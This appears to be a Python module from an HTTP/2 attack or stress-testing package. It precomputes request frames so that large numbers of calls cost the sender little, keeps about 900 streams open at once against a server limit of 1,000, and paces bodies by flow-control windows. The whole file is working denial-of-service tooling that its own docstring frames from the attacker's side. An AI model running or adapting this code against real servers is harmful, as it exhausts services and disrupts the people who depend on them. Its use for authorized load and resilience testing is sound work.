"""Many calls in few bytes, made in advance so that sending them costs the attacker next to nothing."""
import struct
import time
from typing import Iterable

from . import http2
from .connection import Connection, Ended
from .ground import SECONDS

MOST_AT_ONCE = 900  # the server allows 1,000 streams
_CHUNK = 1 << 16


class Calls:
    """Calls whose bytes differ only in their stream: a header block, and perhaps a message, which may end the stream.

    The connection's first call is sent on its own (`first_call`), since it fills HPACK's table.
    """

    def __init__(
        self, fields: http2.Fields, body: bytes | None, first_stream: int, count: int, ends: bool = True,
    ) -> None:
        one = http2.frame(http2.HEADERS, http2.END_HEADERS, 0, fields.again)
        places = [5]
        if body is not None:
            places.append(len(one) + 5)
            one += http2.frame(http2.DATA, http2.END_STREAM if ends else 0, 0, body)
        self.call_bytes = len(one)
        self.data_bytes = len(body or b"")
        self.count = count
        self.bytes = bytearray(one * count)
        patch = struct.Struct("!I").pack_into
        for number in range(count):
            for place in places:
                patch(self.bytes, number * len(one) + place, first_stream + 2 * number)
        self._view = memoryview(self.bytes)

    def some(self, start: int, count: int) -> memoryview:
        return self._view[start * self.call_bytes:(start + count) * self.call_bytes]


def first_call(connection: Connection, fields: http2.Fields, body: bytes, seconds: float = 20) -> None:
    """Makes a connection's first call, which fills HPACK's table, and waits for its answer."""
    open_first_call(connection, fields)
    connection.credit -= len(body)
    connection.write(http2.frame(http2.DATA, http2.END_STREAM, connection.next_stream - 2, body))
    connection.turn_while(lambda: not connection.ended, seconds)


def open_first_call(connection: Connection, fields: http2.Fields) -> None:
    """Begins a connection's first call; its stream stays open."""
    connection.write(http2.frame(http2.HEADERS, http2.END_HEADERS, connection.take_stream(), fields.first))


def keep_in_flight(connection: Connection, calls: Calls, seconds: float = SECONDS) -> int:
    """Keeps about `MOST_AT_ONCE` calls open. Returns how many the server ended."""
    end, before, sent = time.monotonic() + seconds, connection.ended_streams, 0
    while sent < calls.count and connection.end is None and time.monotonic() < end:
        count = min(MOST_AT_ONCE - (sent - (connection.ended_streams - before)), calls.count - sent)
        if calls.data_bytes:
            count = min(count, connection.credit // calls.data_bytes)
        # In batches: a write for each answer would cost more here than the call costs the server.
        if count >= MOST_AT_ONCE // 8 and not connection.has_unsent:
            connection.write(calls.some(sent, count))
            connection.credit -= count * calls.data_bytes
            sent += count
        connection.turn(0.05)
    return connection.ended_streams - before


def send_paced_by_window(connection: Connection, units: Iterable[tuple[bytes, int]], seconds: float = 20) -> None:
    """Sends each unit once the connection's window has room for its DATA bytes. Raises `Ended`, TimeoutError."""
    end, chunk = time.monotonic() + seconds, bytearray()
    for unit, data_bytes in units:
        if len(chunk) >= _CHUNK or connection.credit < data_bytes:
            connection.send(bytes(chunk), end - time.monotonic())
            chunk.clear()
            connection.turn_while(lambda: connection.credit < data_bytes, end - time.monotonic())
        connection.credit -= data_bytes
        chunk += unit
    connection.send(bytes(chunk), end - time.monotonic())


def upload(connection: Connection, streams: list[int], body: bytes, *, ends: bool, until: float) -> bool:
    """Sends the body on each of the streams in turn, as the windows allow. Streams that the server ends are left out.

    Returns whether everything was sent in time. Raises `Ended`.
    """
    view, sent, left = memoryview(body), dict.fromkeys(streams, 0), list(streams)
    while left:
        progress = False
        for stream in list(left):
            at = sent[stream]
            if stream in connection.ended:
                left.remove(stream)
                continue
            count = min(http2.FRAME_BYTES, len(body) - at, connection.stream_credit(stream), connection.credit)
            if count <= 0:
                continue
            is_last = at + count == len(body)
            flags = http2.END_STREAM if is_last and ends else 0
            connection.write(http2.frame(http2.DATA, flags, stream, view[at:at + count]))
            connection.spend(stream, count)
            sent[stream], progress = at + count, True
            if is_last:
                left.remove(stream)
        if connection.end is not None:
            raise Ended(connection.end)
        if time.monotonic() >= until:
            return False
        if connection.has_unsent:
            connection.push()
        connection.turn(0 if progress and not connection.has_unsent else 0.05)
    while connection.has_unsent and connection.end is None and time.monotonic() < until:
        connection.turn(0.05)
    return not connection.has_unsent
